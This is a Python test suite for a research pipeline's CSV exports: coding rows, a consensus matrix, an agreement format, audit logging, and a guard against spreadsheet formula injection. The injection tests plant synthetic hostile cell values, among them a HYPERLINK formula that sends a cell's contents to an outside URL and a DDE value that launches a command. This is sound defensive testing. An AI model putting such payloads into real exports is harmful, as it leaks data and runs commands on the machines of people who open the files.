"""CSV exports: per-decision rows, the per-segment consensus matrix, and the agreement interchange format.

Runs on SQLite and PostgreSQL against the SYNTHETIC project of ``test_export_fixtures``.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from sqlalchemy import func, select

from pipeline.errors import ExportError
from pipeline.export import consensus, export_csv
from pipeline.export.cells import FormulaGuard, neutralise_formula
from pipeline.export.tabular import AGREEMENT_COLUMNS, CODING_COLUMNS, SEGMENT_COLUMNS, TEXT_COLUMNS
from pipeline.store.db import session_scope
from pipeline.store.models import AuditLog, Coding, Segment, Transcript
from tests.test_export_fixtures import RAW_ONLY, SeededProject, seed_project


@pytest.fixture
def seeded(db_url: str) -> SeededProject:
    return seed_project(db_url)


def _export(url: str, path: Path, **kwargs):  # type: ignore[no-untyped-def]
    with session_scope(url) as session:
        return export_csv(session, path, actor="tester", **kwargs)


def _read(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def test_coding_level_has_one_row_per_decision(seeded: SeededProject, db_url: str, tmp_path: Path) -> None:
    out = tmp_path / "codings.csv"
    summary = _export(db_url, out)
    header, rows = _read(out)
    assert header == list(CODING_COLUMNS)
    with session_scope(db_url) as session:
        n_codings = session.scalar(select(func.count(Coding.id)))
        texts = dict(session.execute(select(Segment.id, Segment.text)).tuples().all())
    assert summary.rows == len(rows) == n_codings
    for row in rows:
        assert row["text"] == texts[int(row["segment_id"])]
        assert row["applied"] in ("0", "1")
    note = next(r for r in rows if r["note"])
    assert (note["coder"], note["code"], note["theme"], note["code_name"]) == (
        "alice",
        "referral_delay",
        "Referral",
        "Referral delay",
    )
    model = next(r for r in rows if r["source"] == "model")
    assert (model["coder"], model["model_version"]) == ("model:v1", "v1")
    assert next(r for r in rows if r["code"] == "school_involvement")["theme"] == ""  # not in the codebook


def test_no_text_flag_drops_the_text_column(seeded: SeededProject, db_url: str, tmp_path: Path) -> None:
    out = tmp_path / "codings.csv"
    _export(db_url, out, include_text=False)
    header, _rows = _read(out)
    assert "text" not in header
    body = out.read_text(encoding="utf-8")
    assert "rang the MASH" not in body


def test_consensus_rule() -> None:
    assert consensus({"a": 1, "b": 1}) == 1
    assert consensus({"a": 0}) == 0
    assert consensus({"a": 1, "b": 0}) is None  # tie: left for adjudication
    assert consensus({"a": 1, "b": 1, "c": 0}) == 1
    assert consensus({}) is None


def test_segment_level_consensus_matrix(seeded: SeededProject, db_url: str, tmp_path: Path) -> None:
    out = tmp_path / "segments.csv"
    _export(db_url, out, level="segment")
    header, rows = _read(out)
    codes = ["referral_route", "referral_delay", "family_support", "school_involvement"]
    assert header == [*SEGMENT_COLUMNS, *codes, "text"]  # codebook order, then unknown codes
    by_seg = {int(r["segment_id"]): r for r in rows}
    seg = seeded.segments
    t1_1, t1_2, t1_3 = by_seg[seg[("T1", 1)]], by_seg[seg[("T1", 2)]], by_seg[seg[("T1", 3)]]
    # agreed yes; bob ticked family support and alice did not (blind): a tie, blank and counted unresolved
    assert (t1_1["referral_route"], t1_1["family_support"], t1_1["unresolved"]) == ("1", "", "1")
    assert t1_1["n_coders"] == "2"
    # alice yes / bob no on delay, the lead said no: adjudicated wins
    assert t1_2["referral_delay"] == "0"
    assert (t1_3["referral_delay"], t1_3["family_support"]) == ("1", "1")
    t2_0, t2_1, t2_2 = by_seg[seg[("T2", 0)]], by_seg[seg[("T2", 1)]], by_seg[seg[("T2", 2)]]
    assert (t2_0["referral_route"], t2_0["n_coders"]) == ("1", "2")  # alice's review and carol's import agree
    assert (t2_1["referral_delay"], t2_1["family_support"]) == ("1", "0")  # model fills only where no human
    assert t2_2["school_involvement"] == "1" and t2_2["referral_route"] == ""  # unknown is blank, not 0
    assert seg[("T1", 0)] not in by_seg  # no decision at all: no row


def test_agreement_format_round_trips_through_agreement(seeded: SeededProject, db_url: str, tmp_path: Path) -> None:
    out = tmp_path / "agreement.csv"
    _export(db_url, out, level="agreement")
    header, rows = _read(out)
    assert header == list(AGREEMENT_COLUMNS)
    assert {r["coder"] for r in rows} == {"alice", "bob"}  # the blind sample by default

    codings_csv = pytest.importorskip("pipeline.agreement.codings_csv")
    decisions_mod = pytest.importorskip("pipeline.agreement.decisions")
    report_mod = pytest.importorskip("pipeline.agreement.report")
    from_file = codings_csv.read_codings_csv(out)
    with session_scope(db_url) as session:
        from_db = decisions_mod.load_decisions(session, "human_human")
    assert sorted(map(repr, from_file)) == sorted(map(repr, from_db))
    options = report_mod.ReportOptions(n_boot=20, seed=0, pairwise=False)
    file_report = {r.key: r.metric() for r in report_mod.agreement_report(from_file, None, options)}
    db_report = {r.key: r.metric() for r in report_mod.agreement_report(from_db, None, options)}
    assert file_report == db_report and set(file_report) == {"referral_route", "referral_delay", "family_support"}


def test_agreement_format_with_review_decisions_and_bad_sources(
    seeded: SeededProject, db_url: str, tmp_path: Path
) -> None:
    out = tmp_path / "agreement.csv"
    _export(db_url, out, level="agreement", include_sources=["blind", "review", "import"])
    _header, rows = _read(out)
    seg = str(seeded.segments[("T2", 0)])
    assert {(r["coder"], r["applied"]) for r in rows if r["unit_id"] == seg} == {("alice", "1"), ("carol", "1")}
    keys = [(r["unit_id"], r["code"], r["coder"]) for r in rows]
    assert len(keys) == len(set(keys))  # one decision per unit, code and coder
    with pytest.raises(ExportError, match=r"agreement.csv: .*human coders"):
        _export(db_url, out, level="agreement", include_sources=["model"])
    with pytest.raises(ExportError, match="level must be"):
        _export(db_url, out, level="theme")


def test_csv_exports_hold_no_raw_text_and_are_audited(seeded: SeededProject, db_url: str, tmp_path: Path) -> None:
    blobs = []
    for level in ("coding", "segment", "agreement"):
        path = tmp_path / f"{level}.csv"
        _export(db_url, path, level=level, hide_file_names=True)
        blobs.append(path.read_text(encoding="utf-8"))
    for token in RAW_ONLY:
        assert all(token not in blob for blob in blobs)
    assert all("jane" not in blob.lower() for blob in blobs)
    with session_scope(db_url) as session:
        rows = session.scalars(select(AuditLog).where(AuditLog.action == "export.csv").order_by(AuditLog.id)).all()
        texts = list(session.scalars(select(Segment.text)))
    assert [r.details["level"] for r in rows] == ["coding", "segment", "agreement"]
    assert all(r.actor == "tester" and r.details["rows"] > 0 for r in rows)
    assert not any(t in json.dumps(r.details) for r in rows for t in texts)


# --------------------------------------------------------------------------------------------------
# Spreadsheet formula injection (CWE-1236)
# --------------------------------------------------------------------------------------------------
# SYNTHETIC hostile values, written over the synthetic project: a segment, a note, a coder, a speaker role
# and an inbox file name that a spreadsheet would run as formulas.
HOSTILE_TEXT = '=HYPERLINK("https://example.org/?"&A2,"open")'
HOSTILE_NOTE = "+1 agreed with bob"
HOSTILE_CODER = "@SUM(1+1)"
HOSTILE_ROLE = "-participant"
HOSTILE_FILE = "=cmd|' /C calc'!A0.txt"
HOSTILE_CODE = "@school"  # a code key outside the codebook: a column name of the segment matrix


def plant_hostile_values(url: str, seeded: SeededProject) -> int:
    """Plant the hostile values on segment T2/1 and its codings; return the segment id."""
    seg_id = seeded.segments[("T2", 1)]
    with session_scope(url) as session:
        segment = session.get(Segment, seg_id)
        assert segment is not None
        segment.text = HOSTILE_TEXT
        segment.speaker_role = HOSTILE_ROLE
        session.get(Transcript, seeded.transcripts["T2"]).source_name = HOSTILE_FILE  # type: ignore[union-attr]
        review = session.scalars(select(Coding).where(Coding.segment_id == seg_id, Coding.source == "review")).one()
        review.note = HOSTILE_NOTE
        review.coder = HOSTILE_CODER
        review.certainty = -1  # out of the 1..5 range on purpose: a negative number in a numeric column
        manual = session.scalars(select(Coding).where(Coding.code_key == "school_involvement")).one()
        manual.code_key = HOSTILE_CODE
    return seg_id


def test_guard_prefixes_only_text_columns_and_counts() -> None:
    guard = FormulaGuard(frozenset({1, 2}))
    assert guard.row([-1, "=1+2", -0.5]) == [-1, "'=1+2", -0.5]  # position 2 holds a number: untouched
    assert guard.row(["-1", "-1", ""]) == ["-1", "'-1", ""]  # in a text column "-1" is text (and -1+1 a formula)
    assert guard.row([0, "\tx", "\r\nx"]) == [0, "'\tx", "'\r\nx"]
    assert guard.row([0, " =1+2", "a=b", "'=already"]) == [0, " =1+2", "a=b", "'=already"]
    assert guard.changed == 4
    assert [neutralise_formula(c + "x") for c in "=+-@\t\r\n"] == ["'" + c + "x" for c in "=+-@\t\r\n"]
    assert neutralise_formula("") == "" and neutralise_formula("plain") == "plain"


def test_coding_level_is_formula_safe_by_default_and_exact_when_raw(
    seeded: SeededProject, db_url: str, tmp_path: Path
) -> None:
    seg_id = plant_hostile_values(db_url, seeded)
    safe_path, raw_path = tmp_path / "safe.csv", tmp_path / "raw.csv"
    safe_summary = _export(db_url, safe_path)
    raw_summary = _export(db_url, raw_path, formula_safe=False)
    _header, safe_rows = _read(safe_path)
    _header, raw_rows = _read(raw_path)
    assert len(safe_rows) == len(raw_rows)

    hostile = [r for r in raw_rows if r["segment_id"] == str(seg_id)]
    assert {r["text"] for r in hostile} == {HOSTILE_TEXT} and {r["transcript"] for r in hostile} == {HOSTILE_FILE}
    assert {r["speaker_role"] for r in hostile} == {HOSTILE_ROLE}
    (raw_review,) = [r for r in hostile if r["source"] == "review"]
    assert (raw_review["note"], raw_review["coder"]) == (HOSTILE_NOTE, HOSTILE_CODER)
    assert {r["code"] for r in raw_rows} >= {HOSTILE_CODE}

    safe_hostile = [r for r in safe_rows if r["segment_id"] == str(seg_id)]
    assert {r["text"] for r in safe_hostile} == {"'" + HOSTILE_TEXT}
    assert {r["speaker_role"] for r in safe_hostile} == {"'" + HOSTILE_ROLE}
    (safe_review,) = [r for r in safe_hostile if r["source"] == "review"]
    assert (safe_review["note"], safe_review["coder"]) == ("'" + HOSTILE_NOTE, "'" + HOSTILE_CODER)
    assert safe_review["certainty"] == raw_review["certainty"] == "-1"  # a number, not a formula: untouched
    assert "'" + HOSTILE_CODE in {r["code"] for r in safe_rows}
    # every T2 row names the hostile file; no text cell of the safe file starts like a formula
    assert all(
        r["transcript"] == "'" + HOSTILE_FILE for r in safe_rows if r["transcript_id"] == raw_review["transcript_id"]
    )
    assert not any(r[c][:1] in set("=+-@\t\r\n") for r in safe_rows for c in TEXT_COLUMNS)

    # numeric columns are byte-for-byte the same in both modes; other rows are untouched entirely
    numeric = [c for c in CODING_COLUMNS if c not in TEXT_COLUMNS]
    assert [[r[c] for c in numeric] for r in safe_rows] == [[r[c] for c in numeric] for r in raw_rows]
    assert [r for r in safe_rows if r["transcript_id"] != raw_review["transcript_id"]] == [
        r for r in raw_rows if r["transcript_id"] != raw_review["transcript_id"]
    ]

    changed = sum(
        s != r
        for safe, raw in zip(safe_rows, raw_rows, strict=True)
        for s, r in zip(safe.values(), raw.values(), strict=True)
    )
    assert (safe_summary.formula_safe, safe_summary.neutralised_cells) == (True, changed)
    assert (raw_summary.formula_safe, raw_summary.neutralised_cells) == (False, 0)
    with session_scope(db_url) as session:
        details = [
            r.details
            for r in session.scalars(select(AuditLog).where(AuditLog.action == "export.csv").order_by(AuditLog.id))
        ]
    assert [(d["formula_safe"], d["neutralised_cells"]) for d in details] == [(True, changed), (False, 0)]
    assert not any(HOSTILE_TEXT in json.dumps(d) or HOSTILE_NOTE in json.dumps(d) for d in details)


def test_segment_and_agreement_levels_are_formula_safe(seeded: SeededProject, db_url: str, tmp_path: Path) -> None:
    seg_id = plant_hostile_values(db_url, seeded)
    for formula_safe, prefix in ((True, "'"), (False, "")):
        out = tmp_path / f"segments-{formula_safe}.csv"
        _export(db_url, out, level="segment", formula_safe=formula_safe)
        header, rows = _read(out)
        assert header[-2:] == [prefix + HOSTILE_CODE, "text"]  # a header cell is text too
        (row,) = [r for r in rows if r["segment_id"] == str(seg_id)]
        assert (row["text"], row["speaker_role"], row["transcript"]) == (
            prefix + HOSTILE_TEXT,
            prefix + HOSTILE_ROLE,
            prefix + HOSTILE_FILE,
        )
        assert (row["referral_delay"], row["family_support"], row["n_coders"]) == ("1", "0", "1")  # numbers as ever

        out = tmp_path / f"agreement-{formula_safe}.csv"
        _export(db_url, out, level="agreement", include_sources=["blind", "review"], formula_safe=formula_safe)
        _header, rows = _read(out)
        assert {r["coder"] for r in rows if r["unit_id"] == str(seg_id)} == {prefix + HOSTILE_CODER}
        assert all(r["unit_id"].isdigit() and r["applied"] in ("0", "1") for r in rows)
